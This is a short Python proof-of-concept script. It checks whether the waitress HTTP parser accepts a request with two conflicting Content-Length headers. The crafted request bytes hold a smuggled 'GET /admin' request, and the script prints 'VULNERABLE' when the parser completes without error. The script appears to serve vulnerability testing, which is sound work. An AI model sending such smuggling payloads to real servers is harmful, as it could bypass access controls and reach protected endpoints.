from waitress.adjustments import Adjustments
from waitress.parser import HTTPRequestParser


def parse(data):
    parser = HTTPRequestParser(Adjustments())
    while data and not parser.completed:
        used = parser.received(data)
        if not used:
            break
        data = data[used:]
    return parser, data


request = (
    b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 10\r\nContent-Length: 5\r\n\r\n"
    b"helloGET /admin HTTP/1.1\r\n\r\n"
)
parser, rest = parse(request)
print("completed", parser.completed, "error", parser.error, "headers", parser.headers)
if parser.completed and parser.error is None:
    print("VULNERABLE: two Content-Length headers accepted as", parser.headers.get("CONTENT_LENGTH"), "body", parser.get_body_stream().read(), "left", rest)
